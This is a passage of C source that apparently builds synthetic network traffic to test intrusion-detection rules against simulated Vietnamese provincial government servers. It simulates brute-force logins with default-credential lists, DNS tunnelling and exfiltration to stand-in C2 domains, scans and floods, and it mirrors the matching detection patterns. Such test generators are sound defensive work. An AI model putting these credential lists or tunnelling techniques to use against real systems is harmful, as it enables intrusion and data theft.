    g->now_us += between(&g->r, 1 * MS, 10 * MS);
    n = short_response(g, &SITES[S_PORTAL], "200 OK", 1);
    tcp_send(g, &c, 0, g->text, n);
    tcp_close(g, &c, 0);
    if (++s->n >= a->n * a->reps)
        return -1;
    return (int64_t)between(&g->r, 100 * MS, 20 * SEC);
}

static const grab_arg ARG_SCAN_MASSCAN = {
    "GET / HTTP/1.0\r\nUser-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)\r\n"
    "Accept: */*\r\n\r\n",
    9100204,
    4,
    { { 10, 20, 1, 10 }, { 10, 20, 1, 11 }, { 10, 20, 1, 12 }, { 10, 21, 5, 10 } },
    { 80, 80, 8080, 80 },
    2
};
static const grab_arg ARG_SCAN_ZGRAB = {
    "GET / HTTP/1.1\r\nHost: 10.20.1.13\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\n"
    "Accept-Encoding: gzip\r\n\r\n",
    9100208,
    3,
    { { 10, 20, 1, 13 }, { 10, 20, 1, 10 }, { 10, 20, 1, 20 } },
    { 80, 80, 8000 },
    1
};

/* DirBuster: a word list against the main portal, keep-alive, fast */
static const char *const DIRS[] = {
    "admin",   "backup",  "old",        "test",    "uploads",  "images", "data",     "db",
    "sql",     "tmp",     "logs",       "config",  "private",  "api",    "cms",      "portal",
    "cgi-bin", "webmail", "phpmyadmin", "install", "download", "files",  "includes", "scripts",
    "temp",    "dev",     "staging",    "web",     "site",     "media",
};

static int64_t step_dirbuster(gen *g, scen *s)
{
    const site *st = &SITES[S_PORTAL];
    if (s->step == 0) {
        s->atk = public_ip(&g->r);
        s->tgt = site_ip(st);
        s->rtt = (uint32_t)between(&g->r, 60 * MS, 200 * MS);
    }
    conn c;
    tcp_open(g, &c, &s->atk, &s->tgt, st->port, 0, s->rtt);
    for (int k = 0; k < 8; k++, s->n++) {
        size_t n = 0;
        cat(g->text, sizeof g->text, &n,
            "HEAD /%s/%s HTTP/1.1\r\nUser-Agent: DirBuster-1.0-RC1 "
            "(http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)\r\nHost: %s\r\n\r\n",
            DIRS[s->n % 30], s->n >= 30 ? DIRS[(s->n / 30 + 7) % 30] : "", st->host);
        tcp_send(g, &c, 1, g->text, n);
        expect_c(g, 9100206, &c, 1);
        g->now_us += between(&g->r, 1 * MS, 8 * MS);
        n = short_response(g, st, "404 Not Found", 0);
        tcp_send(g, &c, 0, g->text, n);
    }
    tcp_close(g, &c, 1);
    if (s->n >= 96)
        return -1;
    return (int64_t)between(&g->r, 2 * SEC, 9 * SEC);
}

/* ---- bruteforce.rules: password guessing ------------------------------------------- */

/* An SSH binary packet with message msg and payload p (unencrypted, as KEXINIT is) */
static size_t ssh_kexinit(gen *g, uint8_t *out, int server)
{
    static const char *const lists[] = {
        "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,diffie-hellman-group14-"
        "sha256",
        "rsa-sha2-512,rsa-sha2-256,ecdsa-sha2-nistp256,ssh-ed25519",
        "chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com",
        "chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com",
        "umac-64-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-256,hmac-sha1",
        "umac-64-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-256,hmac-sha1",
        "none,zlib@openssh.com",
        "none,zlib@openssh.com",
        "",
        "",
    };
    size_t n = 5;
    out[n++] = 20; /* SSH_MSG_KEXINIT */
    rand_bytes(g, out + n, 16);
    n += 16;
    for (int i = 0; i < 10; i++) {
        const char *l = lists[i];
        if (i == 1 && server)
            l = "rsa-sha2-512,rsa-sha2-256,ecdsa-sha2-nistp256,ssh-ed25519";
        size_t ll = strlen(l);
        put32(out + n, (uint32_t)ll);
        memcpy(out + n + 4, l, ll);
        n += 4 + ll;
    }
    out[n++] = 0; /* first_kex_packet_follows */
    put32(out + n, 0);
    n += 4;
    size_t pad = 8 - (n - 4) % 8;
    if (pad < 4)
        pad += 8;
    memset(out + n, 0, pad);
    n += pad;
    put32(out, (uint32_t)(n - 4));
    out[4] = (uint8_t)pad;
    return n;
}

/* An encrypted SSH packet (length, then random bytes) of about n bytes */
static size_t ssh_blob(gen *g, uint8_t *out, size_t n)
{
    n = (n + 7) / 8 * 8;
    put32(out, (uint32_t)n);
    rand_bytes(g, out + 4, n + 16); /* + MAC */
    return n + 20;
}

typedef struct ssh_arg {
    const char *banner; /* the tool's client banner */
    uint32_t tries;
    int tool; /* the banner matches 9100302 */
} ssh_arg;

/* SSH password guessing on the jump host: a connection per guess. */
static int64_t step_ssh(gen *g, scen *s)
{
    const ssh_arg *a = s->arg;
    uint8_t *b = (uint8_t *)g->text;
    if (s->step == 0) {
        s->atk = public_ip(&g->r);
        s->tgt = ip4(10, 20, 5, 22);
        s->rtt = (uint32_t)between(&g->r, 40 * MS, 220 * MS);
    }
    conn c;
    tcp_open(g, &c, &s->atk, &s->tgt, 22, 0, s->rtt);
    static const char sb[] = "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10\r\n";
    tcp_send(g, &c, 0, sb, sizeof sb - 1);
    tcp_send(g, &c, 1, a->banner, strlen(a->banner));
    expect_c(g, 9100301, &c, 1);
    if (a->tool)
        expect_c(g, 9100302, &c, 1);
    tcp_send(g, &c, 1, b, ssh_kexinit(g, b, 0));
    tcp_send(g, &c, 0, b, ssh_kexinit(g, b, 1));
    tcp_send(g, &c, 1, b, ssh_blob(g, b, 40)); /* KEX_ECDH_INIT */
    g->now_us += between(&g->r, 2 * MS, 8 * MS);
    tcp_send(g, &c, 0, b, ssh_blob(g, b, 560)); /* KEX_ECDH_REPLY, NEWKEYS */
    for (int i = 0; i < 3; i++) {               /* service request, password tries */
        tcp_send(g, &c, 1, b, ssh_blob(g, b, i ? 80 : 24));
        g->now_us += between(&g->r, 100 * MS, 900 * MS); /* the server's delay on failure */
        tcp_send(g, &c, 0, b, ssh_blob(g, b, i ? 24 : 32));
    }
    tcp_close(g, &c, 0);
    if (++s->n >= a->tries)
        return -1;
    return (int64_t)between(&g->r, 100 * MS, 1500 * MS);
}

static const ssh_arg ARG_BF_SSH_LIBSSH = { "SSH-2.0-libssh_0.9.6\r\n", 36, 1 };
static const ssh_arg ARG_BF_SSH_GO = { "SSH-2.0-Go\r\n", 22, 1 };
static const ssh_arg ARG_BF_SSH_OPENSSH = { "SSH-2.0-OpenSSH_7.4\r\n", 14, 0 };

/* FTP: three USER/PASS tries per connection on the file exchange server. */
static int64_t step_ftp_bf(gen *g, scen *s)
{
    static const char *const users[] = { "admin", "ftp", "root", "test", "tuyenquang", "ftpuser" };
    static const char *const pws[] = { "123456",          "admin@123", "password",
                                       "Tuyenquang@2025", "qwerty",    "1" };
    if (s->step == 0) {
        s->atk = public_ip(&g->r);
        s->tgt = ip4(10, 20, 4, 21);
        s->rtt = (uint32_t)between(&g->r, 40 * MS, 220 * MS);
    }
    conn c;
    char line[128];
    tcp_open(g, &c, &s->atk, &s->tgt, 21, 0, s->rtt);
    static const char banner[] = "220 (vsFTPd 3.0.5)\r\n";
    tcp_send(g, &c, 0, banner, sizeof banner - 1);
    for (int i = 0; i < 3; i++, s->n++) {
        int n = snprintf(line, sizeof line, "USER %s\r\n", users[s->n % 6]);
        tcp_send(g, &c, 1, line, (size_t)n);
        static const char r331[] = "331 Please specify the password.\r\n";
        tcp_send(g, &c, 0, r331, sizeof r331 - 1);
        n = snprintf(line, sizeof line, "PASS %s\r\n", pws[(s->n / 6 + s->n) % 6]);
        tcp_send(g, &c, 1, line, (size_t)n);
        g->now_us += between(&g->r, 1 * SEC, 3 * SEC); /* vsftpd's delay_failed_login */
        static const char r530[] = "530 Login incorrect.\r\n";
        tcp_send(g, &c, 0, r530, sizeof r530 - 1);
        expect_c(g, 9100303, &c, 0);
    }
    tcp_close(g, &c, 0);
    if (s->n >= 33)
        return -1;
    return (int64_t)between(&g->r, 200 * MS, 2 * SEC);
}

/* RDP: an X.224 connection request with the user name cookie per guess. */
static int64_t step_rdp_bf(gen *g, scen *s)
{
    static const char *const users[] = { "administrator", "admin", "user", "quantri" };
    uint8_t *b = (uint8_t *)g->text;
    if (s->step == 0) {
        s->atk = public_ip(&g->r);
        s->tgt = ip4(10, 20, 5, 33);
        s->rtt = (uint32_t)between(&g->r, 40 * MS, 220 * MS);
    }
    conn c;
    tcp_open(g, &c, &s->atk, &s->tgt, 3389, 0, s->rtt);
    char cookie[64];
    int cl = snprintf(cookie, sizeof cookie, "Cookie: mstshash=%s\r\n", users[s->n % 4]);
    size_t n = 11;
    memcpy(b + n, cookie, (size_t)cl);
    n += (size_t)cl;
    static const uint8_t neg[8] = { 0x01, 0x00, 0x08, 0x00, 0x03, 0x00, 0x00, 0x00 };
    memcpy(b + n, neg, 8);
    n += 8;
    b[0] = 3;
    b[1] = 0;
    put16(b + 2, (uint16_t)n); /* TPKT */
    b[4] = (uint8_t)(n - 5);
    b[5] = 0xe0; /* X.224 CR */
    memset(b + 6, 0, 5);
    tcp_send(g, &c, 1, b, n);
    expect_c(g, 9100304, &c, 1);
    static const uint8_t cc[19] = { 0x03, 0x00, 0x00, 0x13, 0x0e, 0xd0, 0x00, 0x00, 0x12, 0x34,
                                    0x00, 0x02, 0x1f, 0x08, 0x00, 0x02, 0x00, 0x00, 0x00 };
    tcp_send(g, &c, 0, cc, sizeof cc);
    tcp_send(g, &c, 1, b, client_hello(g, b, "10.20.5.33")); /* TLS for CredSSP */
    n = tls_record(g, b, 0x16, 1400);
    tcp_send(g, &c, 0, b, n);
    tcp_send(g, &c, 1, b, tls_record(g, b, 0x17, 420));
    g->now_us += between(&g->r, 100 * MS, 600 * MS);
    tcp_send(g, &c, 0, b, tls_record(g, b, 0x17, 60));
    tcp_close(g, &c, 0);
    if (++s->n >= 30)
        return -1;
    return (int64_t)between(&g->r, 1 * SEC, 4 * SEC);
}

/* Telnet on a switch's management address, BusyBox style prompts. */
static int64_t step_telnet_bf(gen *g, scen *s)
{
    static const char *const creds[][2] = {
        { "root", "xc3511" }, { "admin", "admin" }, { "root", "vizxv" },   { "support", "support" },
        { "root", "888888" }, { "admin", "1234" },  { "root", "default" }, { "guest", "12345" },
    };
    if (s->step == 0) {
        s->atk = public_ip(&g->r);
        s->tgt = ip4(10, 20, 6, 1);
        s->rtt = (uint32_t)between(&g->r, 60 * MS, 250 * MS);
    }
    conn c;
    char line[64];
    tcp_open(g, &c, &s->atk, &s->tgt, 23, 0, s->rtt);
    static const uint8_t iac[] = { 0xff, 0xfd, 0x18, 0xff, 0xfd, 0x20,
                                   0xff, 0xfd, 0x23, 0xff, 0xfd, 0x27 };
    static const uint8_t iacr[] = { 0xff, 0xfc, 0x18, 0xff, 0xfc, 0x20,
                                    0xff, 0xfc, 0x23, 0xff, 0xfc, 0x27 };
    tcp_send(g, &c, 0, iac, sizeof iac);
    tcp_send(g, &c, 1, iacr, sizeof iacr);
    static const char login[] = "\r\nswitch-core-01 login: ";
    tcp_send(g, &c, 0, login, sizeof login - 1);
    for (int i = 0; i < 3; i++, s->n++) {
        int n = snprintf(line, sizeof line, "%s\r\n", creds[s->n % 8][0]);
        tcp_send(g, &c, 1, line, (size_t)n);
        static const char pw[] = "Password: ";
        tcp_send(g, &c, 0, pw, sizeof pw - 1);
        n = snprintf(line, sizeof line, "%s\r\n", creds[s->n % 8][1]);
        tcp_send(g, &c, 1, line, (size_t)n);
        g->now_us += between(&g->r, 1 * SEC, 3 * SEC);
        static const char bad[] = "\r\nLogin incorrect\r\n";
        tcp_send(g, &c, 0, bad, sizeof bad - 1);
        expect_c(g, 9100305, &c, 0);
        if (i < 2)
            tcp_send(g, &c, 0, login + 2, sizeof login - 3);
    }
    tcp_close(g, &c, 0);
    if (s->n >= 21)
        return -1;
    return (int64_t)between(&g->r, 300 * MS, 3 * SEC);
}

/* WordPress login guessing on sotttt (wp-login.php), a connection per try. */
static int64_t step_wp_bf(gen *g, scen *s)
{
    static const char *const pws[] = { "123456",           "admin123",  "sotttt2025",
                                       "Tuyenquang%40123", "password1", "qwerty%40123",
                                       "admin%40123",      "12345678" };
    const site *st = &SITES[S_SOTTTT];
    if (s->step == 0) {
        s->atk = public_ip(&g->r);
        s->tgt = site_ip(st);
        s->rtt = (uint32_t)between(&g->r, 60 * MS, 250 * MS);
    }
    char body[256];
    snprintf(body, sizeof body,
             "log=admin&pwd=%s&wp-submit=Log+In&redirect_to="
             "http%%3A%%2F%%2Fsotttt.tuyenquang.gov.vn%%3A8080%%2Fwp-admin%%2F&testcookie=1",
             pws[s->n % 8]);
    hreq r = { "POST",
               "/wp-login.php",
               "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0",
               "Cookie: wordpress_test_cookie=WP%20Cookie%20check\r\n",
               "application/x-www-form-urlencoded",
               body,
               "200 OK",
               { 9100306 } };
    conn c;
    tcp_open(g, &c, &s->atk, &s->tgt, st->port, 0, s->rtt);
    attack_on(g, &c, st, &r, NULL);
    tcp_close(g, &c, 1);
    if (++s->n >= 40)
        return -1;
    return (int64_t)between(&g->r, 200 * MS, 1500 * MS);
}

/* HTTP Basic guessing on the police portal's admin area: the 401 answers count. */
static int64_t step_basic_bf(gen *g, scen *s)
{
    static const char *const auth[] = { "YWRtaW46YWRtaW4=", "YWRtaW46MTIzNDU2", "cm9vdDpyb290",
                                        "YWRtaW46cGFzc3dvcmQ=", "cXVhbnRyaTpxdWFudHJp" };
    const site *st = &SITES[S_CONGAN];
    if (s->step == 0) {
        s->atk = public_ip(&g->r);
        s->tgt = site_ip(st);
        s->rtt = (uint32_t)between(&g->r, 60 * MS, 250 * MS);
    }
    conn c;
    tcp_open(g, &c, &s->atk, &s->tgt, st->port, 0, s->rtt);
    for (int k = 0; k < 5; k++, s->n++) {
        size_t n = 0;
        cat(g->text, sizeof g->text, &n,
            "GET /quan-tri/ HTTP/1.1\r\nHost: %s\r\nUser-Agent: "
            "Mozilla/5.0 (Hydra)\r\nAuthorization: Basic %s\r\nConnection: keep-alive\r\n\r\n",
            st->host, auth[s->n % 5]);
        tcp_send(g, &c, 1, g->text, n);
        g->now_us += between(&g->r, 1 * MS, 6 * MS);
        size_t bl = 0;
        cat(g->body, sizeof g->body, &bl,
            "<html><head><title>401 Authorization Required</title></head>"
            "<body><h1>401 Authorization Required</h1></body></html>\r\n");
        n = 0;
        char date[64];
        http_date(g, date, sizeof date);
        cat(g->text, sizeof g->text, &n,
            "HTTP/1.1 401 Unauthorized\r\nServer: %s\r\nDate: %s\r\n"
            "Content-Type: text/html\r\nContent-Length: %zu\r\nConnection: keep-alive\r\n"
            "WWW-Authenticate: Basic realm=\"Quan tri Cong thong tin\"\r\n\r\n%s",
            st->server, date, bl, g->body);
        tcp_send(g, &c, 0, g->text, n);
        expect_c(g, 9100307, &c, 0);
    }
    tcp_close(g, &c, 1);
    if (s->n >= 50)
        return -1;
    return (int64_t)between(&g->r, 300 * MS, 2 * SEC);
}

/* ---- dns.rules: tunnelling, floods, zone probing ------------------------------------ */

static int lc(int c)
{
    return c >= 'A' && c <= 'Z' ? c + 32 : c;
}

/* pat (plen bytes, ASCII case ignored) at some offset >= from of p? */
static int has_at(const uint8_t *p, size_t n, size_t from, const char *pat, size_t plen)
{
    for (size_t i = from; i + plen <= n; i++) {
        size_t k = 0;
        while (k < plen && lc(p[i + k]) == lc((uint8_t)pat[k]))
            k++;
        if (k == plen)
            return 1;
    }
    return 0;
}

/* The rules of dns.rules that the query q (UDP, from src to a DNS server's
 * port 53) matches, each given to expect(); a mirror of their contents. */
static void expect_dns(gen *g, const uint8_t *q, size_t n, const ip *src, const ip *dst)
{
    int ext = !in_home(src);
    /* 9100401: QDCOUNT 1, dsize > 62, /[\x32-\x3f][a-z0-9_-]{50}/i */
    if (n > 62 && q[4] == 0 && q[5] == 1) {
        int hit = 0;
        for (size_t i = 0; !hit && i + 51 <= n; i++) {
            if (q[i] < 0x32 || q[i] > 0x3f)
                continue;
            size_t k = 1;
            while (k <= 50) {
                int c = lc(q[i + k]);
                if (!((c >= 'a' && c <= 'z') || (c >= '0' && c <= '9') || c == '_' || c == '-'))
                    break;
                k++;
            }
            hit = k > 50;
        }
        if (hit)
            expect(g, 9100401, src, dst);
    }
    if (has_at(q, n, 12,
               "\x06"
               "dnscat",
               7))
        expect(g, 9100402, src, dst);
    if (has_at(q, n, 12, "\x00\x00\x0a\x00\x01", 5))
        expect(g, 9100403, src, dst);
    if (has_at(q, n, 12, "\x00\x00\x10\x00\x01", 5)) {
        static const char *const tld[] = { "\x02tk",
                                           "\x02ml",
                                           "\x02ga",
                                           "\x02"
                                           "cf",
                                           "\x02gq",
                                           "\x03xyz",
                                           "\x03top",
                                           "\x03icu",
                                           "\x03"
                                           "bid",
                                           "\x03win",
                                           "\x04"
                                           "club",
                                           "\x04"
                                           "cyou",
                                           "\x04"
                                           "buzz",
                                           "\x04rest",
                                           "\x04work" };
        int cheap = 0;
        for (size_t t = 0; !cheap && t < sizeof tld / sizeof tld[0]; t++) {
            char pat[16];
            size_t l = strlen(tld[t]);
            memcpy(pat, tld[t], l);
            memcpy(pat + l, "\x00\x00\x10\x00\x01", 5);
            cheap = has_at(q, n, 0, pat, l + 5);
        }
        if (cheap)
            expect(g, 9100404, src, dst);
        expect(g, 9100405, src, dst);
    }
    if (ext && has_at(q, n, 12, "\x0atuyenquang\x03gov\x02vn\x00", 19))
        expect(g, 9100406, src, dst);
    if (ext && has_at(q, n, 12, "\x00\x00\xff\x00\x01", 5))
        expect(g, 9100407, src, dst);
}

/* A lookup of an attack (with its expected alerts) and the answer. */
static void dns_attack(gen *g, const ip *cli, const ip *srv, uint16_t sport, uint16_t vlan,
                       const char *qname, uint16_t qtype, int rcode)
{
    uint8_t q[600], a[1200];
    size_t ql = dns_query(q, (uint16_t)rnd(&g->r), qname, qtype, 1);
    udp_send(g, cli, srv, sport, 53, vlan, q, ql);
    expect_dns(g, q, ql, cli, srv);
    g->now_us += between(&g->r, 300, 20 * MS);
    size_t al = dns_answer(g, a, q, ql, qtype, rcode ? 0 : 1, rcode);
    udp_send(g, srv, cli, 53, sport, vlan, a, al);
}

static void b32(gen *g, char *out, size_t n)
{
    static const char al[] = "abdefghijklmnopqrstuvwxyz234567"; /* no c: no "cccd" */
    for (size_t i = 0; i < n; i++)
        out[i] = al[below(&g->r, 31)];
    out[n] = 0;
}

static void hexs(gen *g, char *out, size_t n)
{
    static const char al[] = "0123456789abcdef";
    for (size_t i = 0; i < n; i++)
        out[i] = al[below(&g->r, 16)];
    out[n] = 0;
}

typedef struct tunnel_arg {
    uint8_t host[4];  /* the compromised host */
    uint8_t resolver; /* 10.20.2.x */
    uint32_t queries, per_step;
    uint32_t gap_min_ms, gap_max_ms;
    int kind; /* 0 iodine, 1 dnscat2, 2 TXT beacon (cheap TLD), 3 TXT exfiltration,
               * 4 dnscat2 under its domain */
} tunnel_arg;

/* DNS tunnels of a compromised agency host through the resolvers. */
static int64_t step_tunnel(gen *g, scen *s)
{
    const tunnel_arg *a = s->arg;
    static const uint16_t qts[] = { QT_TXT, 5 /* CNAME */, QT_MX, QT_TXT };
    if (s->step == 0) {
        s->atk = ip4(a->host[0], a->host[1], a->host[2], a->host[3]);
        s->tgt = ip4(10, 20, 2, a->resolver);
        s->rtt = (uint32_t)between(&g->r, 1024, 65000); /* the tool's source port */
    }
    char name[300], l1[64], l2[64];
    for (uint32_t k = 0; k < a->per_step && s->n < a->queries; k++, s->n++) {
        uint16_t qt = QT_TXT;
        switch (a->kind) {
        case 0: /* iodine: NULL records, base32 downstream request */
            b32(g, l1, 57);
            b32(g, l2, 40);
            snprintf(name, sizeof name, "p%s.%s.t.tqvpn-sync.net", l1, l2);
            qt = QT_NULL;
            break;
        case 1: /* dnscat2 without a domain: "dnscat." prefix, hex */
            hexs(g, l1, 18 + below(&g->r, 44));
            snprintf(name, sizeof name, "dnscat.%s", l1);
            qt = qts[below(&g->r, 4)];
            break;
        case 2: /* a beacon asking for commands in TXT */
            b32(g, l1, 12);
            snprintf(name, sizeof name, "%s.api.update-cdn.xyz", l1);
            break;
        case 4: /* dnscat2 with its domain: TXT, CNAME, MX; hex */
            hexs(g, l1, 48);
            hexs(g, l2, 30);
            snprintf(name, sizeof name, "%s.%s.c2.tq-telemetry.com", l1, l2);
            qt = qts[below(&g->r, 3)];
            break;
        default: /* data out in 30-character labels, TXT */
            hexs(g, l1, 30);
            hexs(g, l2, 30);
            snprintf(name, sizeof name, "%u.%s.%s.x.stat-collect.net", s->n, l1, l2);
            break;
        }
        dns_attack(g, &s->atk, &s->tgt, (uint16_t)(s->rtt + s->n % 16), 210, name, qt, 0);
        g->now_us += between(&g->r, 5 * MS, 300 * MS);
    }
    if (s->n >= a->queries)
        return -1;
    return (int64_t)between(&g->r, a->gap_min_ms, a->gap_max_ms) * (int64_t)MS;
}

static const tunnel_arg ARG_DNS_IODINE = { { 10, 21, 4, 77 }, 53, 14, 2, 2000, 9000, 0 };
static const tunnel_arg ARG_DNS_DNSCAT = { { 10, 21, 3, 45 }, 54, 30, 3, 1000, 5000, 1 };
static const tunnel_arg ARG_DNS_BEACON = { { 10, 21, 101, 23 }, 53, 8, 1, 10000, 40000, 2 };
static const tunnel_arg ARG_DNS_EXFIL = { { 10, 21, 5, 19 }, 53, 90, 10, 200, 900, 3 };
static const tunnel_arg ARG_DNS_DNSCAT_DOM = { { 10, 21, 2, 66 }, 54, 150, 5, 1000, 3000, 4 };

/* Random-subdomain flood of the province zone from one source, in bursts. */
static int64_t step_dns_flood(gen *g, scen *s)
{
    if (s->step == 0) {
        s->atk = public_ip(&g->r);
        s->tgt = ip4(10, 20, 2, 10);
    }
    char name[128], l[16];
    for (int k = 0; k < 60; k++, s->n++) {
        b32(g, l, 8 + below(&g->r, 6));
        snprintf(name, sizeof name, "%s.tuyenquang.gov.vn", l);
        dns_attack(g, &s->atk, &s->tgt, (uint16_t)between(&g->r, 1024, 65535), 0, name, QT_A, 3);
        g->now_us += between(&g->r, 1 * MS, 12 * MS);
    }
    if (s->n >= 300)
        return -1;
    return (int64_t)between(&g->r, 3 * SEC, 16 * SEC);
}

/* ANY queries from the Internet (amplification probes) */
static int64_t step_dns_any(gen *g, scen *s)
{
    static const char *const names[] = { "tuyenquang.gov.vn", "", "gov.vn", "tuyenquang.gov.vn" };
    if (s->step == 0) {
        s->atk = public_ip(&g->r);
        s->tgt = ip4(10, 20, 2, 11);
    }
    dns_attack(g, &s->atk, &s->tgt, (uint16_t)between(&g->r, 1024, 65535), 0, names[s->n % 4],
               QT_ANY, 0);
    if (++s->n >= 6)
        return -1;
    return (int64_t)between(&g->r, 5 * SEC, 70 * SEC);
}

/* Zone transfer attempts over TCP from the Internet, refused. */
static int64_t step_axfr(gen *g, scen *s)
{
    static const uint8_t tgts[] = { 10, 11, 10 };
    if (s->step == 0) {
        s->atk = public_ip(&g->r);
        s->rtt = (uint32_t)between(&g->r, 60 * MS, 250 * MS);
    }
    ip srv = ip4(10, 20, 2, tgts[s->n]);
    uint8_t m[300], a[300];
    size_t n = dns_query(m + 2, (uint16_t)rnd(&g->r), "tuyenquang.gov.vn", QT_AXFR, 0);
    put16(m, (uint16_t)n);
    conn c;
    tcp_open(g, &c, &s->atk, &srv, 53, 0, s->rtt);
    tcp_send(g, &c, 1, m, n + 2);
    expect_c(g, 9100408, &c, 1);
    size_t al = dns_answer(g, a + 2, m + 2, n, QT_AXFR, 0, 5); /* REFUSED */
    put16(a, (uint16_t)al);
    tcp_send(g, &c, 0, a, al + 2);
    tcp_close(g, &c, 0);
    if (++s->n >= 3)
        return -1;
    return (int64_t)between(&g->r, 2 * SEC, 60 * SEC);
}

/* ---- canhgac's detectors: port scans, host sweeps, slow scans ---------------------------- */

/* One SYN probe of a scanner (source port sport) to host:port: a closed port
 * answers RST, an open one SYN+ACK, which the scanner drops with a RST (a
 * half-open SYN scan). The RST ends the attempt: the detectors' evidence. */
static void probe(gen *g, const ip *scanner, uint16_t sport, const ip *host, uint16_t port,
                  int open, uint32_t rtt)
{
    conn c;
    memset(&c, 0, sizeof c);
    c.cli = *scanner;
    c.srv = *host;
    c.cport = sport;
    c.sport = port;
    c.cseq = (uint32_t)rnd(&g->r);
    c.sseq = (uint32_t)rnd(&g->r);
    c.cid = (uint16_t)rnd(&g->r);
    c.cttl = 47;
    c.sttl = 64;
    c.cwin = 1024;
    c.swin = open ? 64240 : 0;
    tcp_seg(g, &c, 1, TH_SYN, NULL, 0);
    g->now_us += between(&g->r, 40, 250);
    if (open) {
        tcp_seg(g, &c, 0, TH_SYN | TH_ACK, NULL, 0);
        g->now_us += rtt;
        tcp_seg(g, &c, 1, TH_RST, NULL, 0);
    } else {
        c.cseq++;
        tcp_seg(g, &c, 0, TH_RST | TH_ACK, NULL, 0);
    }
    pkt *p = &g->pool[g->last_slot];
    p->det = DET_PROBE;
    p->det_src = *scanner;
    p->det_dst = *host;
    p->det_port = port;
}

static const uint16_t TOP_PORTS[] = {
    21,   22,    23,    25,    53,    80,    81,    110,   111,   135,  139,  143,  179,  199,
    443,  445,   465,   514,   515,   548,   554,   587,   631,   646,  873,  990,  993,  995,
    1025, 1026,  1027,  1433,  1720,  1723,  1900,  2000,  2001,  2049, 2121, 2717, 3000, 3128,
    3306, 3389,  3986,  4899,  5000,  5009,  5051,  5060,  5101,  5190, 5357, 5432, 5631, 5666,
    5800, 5900,  6000,  6001,  6646,  7070,  8000,  8008,  8009,  8080, 8081, 8443, 8888, 9100,
    9999, 10000, 32768, 49152, 49153, 49154, 49155, 49156, 49157,
};
#define NTOP (sizeof TOP_PORTS / sizeof TOP_PORTS[0])

/* A fast SYN scan of the top ports of the main portal (nmap -sS), from the
 * Internet: one port scan alert. */
static int64_t step_portscan(gen *g, scen *s)
{
    if (s->step == 0) {
        s->atk = public_ip(&g->r);
        s->tgt = ip4(10, 20, 1, 10);
        s->rtt = (uint32_t)between(&g->r, 1024, 65000); /* nmap's one source port */
    }
    for (int k = 0; k < 20 && s->n < NTOP; k++, s->n++) {
        uint16_t port = TOP_PORTS[(s->n * 37) % NTOP];
        probe(g, &s->atk, (uint16_t)s->rtt, &s->tgt, port, port == 80 || port == 443,
              (uint32_t)between(&g->r, 30 * MS, 90 * MS));
        g->now_us += between(&g->r, 1 * MS, 6 * MS);
    }
    if (s->n >= NTOP)
        return -1;
    return (int64_t)between(&g->r, 50 * MS, 400 * MS);
}

/* RDP swept over the administration network (hosts .1 to .60): one host
 * sweep alert. */
static int64_t step_sweep(gen *g, scen *s)
{
    if (s->step == 0) {
        s->atk = public_ip(&g->r);
        s->rtt = (uint32_t)between(&g->r, 1024, 65000);
    }
    for (int k = 0; k < 15 && s->n < 60; k++, s->n++) {
        ip h = ip4(10, 20, 5, (uint8_t)(1 + s->n));
        probe(g, &s->atk, (uint16_t)s->rtt, &h, 3389, s->n + 1 == 33,
              (uint32_t)between(&g->r, 60 * MS, 200 * MS));
        g->now_us += between(&g->r, 2 * MS, 15 * MS);
    }
    if (s->n >= 60)
        return -1;
    return (int64_t)between(&g->r, 200 * MS, 900 * MS);
}

/* A slow scan: 60 host:port probes over the DMZ, one every 4 to 7 s (never
 * 25 in a minute): one slow scan alert, a few minutes in. */
static int64_t step_slowscan(gen *g, scen *s)
{
    static const uint16_t ports[] = { 22, 80, 443, 3306, 8080, 8443 };
    if (s->step == 0)
        s->atk = public_ip(&g->r);
    ip h = ip4(10, 20, 1, (uint8_t)(10 + s->n % 10));
    uint16_t port = ports[s->n / 10 % 6];
    probe(g, &s->atk, (uint16_t)between(&g->r, 1024, 65000), &h, port, port == 80 || port == 443,
          (uint32_t)between(&g->r, 80 * MS, 250 * MS));
    if (++s->n >= 60)
        return -1;
    return (int64_t)between(&g->r, 4 * SEC, 7 * SEC);
}

/* ---- dataleak.rules: personal data and credentials in clear text ----------------------- */

/* A citizen filing on the public-services portal over plain HTTP */
static const hreq DL_CITIZEN[] = {
    { "POST",
      "/dich-vu-cong/nop-ho-so",
      NULL,
      "Origin: http://dichvucong.tuyenquang.gov.vn\r\n",
      "application/x-www-form-urlencoded",
      "maThuTuc=1.001612&ho_ten=Nguy%E1%BB%85n+Th%E1%BB%8B+Lan&ngay_sinh=12%2F05%2F1986&so_cccd="
      "008186001234"
      "&sdt=0912345678&dia_chi=T%E1%BB%95+7%2C+ph%C6%B0%E1%BB%9Dng+Minh+Xu%C3%A2n",
      "200 OK",
      { 9100501, 9100506 } },
    { "POST",
      "/api/cong-dan/cap-nhat",
      NULL,
      "X-Requested-With: XMLHttpRequest\r\n",
      "application/json;charset=UTF-8",
      "{\"hoTen\":\"Nguy\u1ec5n Th\u1ecb "
      "Lan\",\"email\":\"lan.nt86@gmail.com\",\"phone\":\"+84912345678\","
      "\"diaChi\":\"T\u1ed5 7, ph\u01b0\u1eddng Minh Xu\u00e2n\"}",
      "200 OK",
      { 9100508 } },
    { "POST",
      "/dich-vu-cong/dang-ky-tai-khoan",
      NULL,
      NULL,
      "application/x-www-form-urlencoded",
      "ho_ten=Nguyen+Thi+Lan&so_can_cuoc=008186001234&so_dien_thoai=0388123456&email=lan.nt86%"
      "40gmail.com",
      "200 OK",
      { 9100505, 9100507 } },
};
static const seq_arg ARG_DL_CITIZEN = { DL_CITIZEN, 3, 2, 1, S_DVC, 1, 20000, 90000, NULL };
/* another citizen, a birth registration */
static const hreq DL_CITIZEN2[] = {
    { "POST",
      "/dich-vu-cong/dang-ky-khai-sinh",
      NULL,
      NULL,
      "application/x-www-form-urlencoded",
